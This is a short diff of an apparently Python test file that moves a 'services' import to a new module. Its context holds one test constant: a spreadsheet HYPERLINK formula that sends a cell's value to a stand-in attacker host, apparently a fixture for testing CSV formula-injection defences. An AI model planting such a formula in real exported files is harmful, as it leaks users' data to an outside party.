@@ -7,8 +7,9 @@ import io
 
 import pytest
 
-from voc import csvfiles, services
+from voc import csvfiles
 from voc.models import Insight
+from voc.notes import services
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"zq7-open-me")'
 
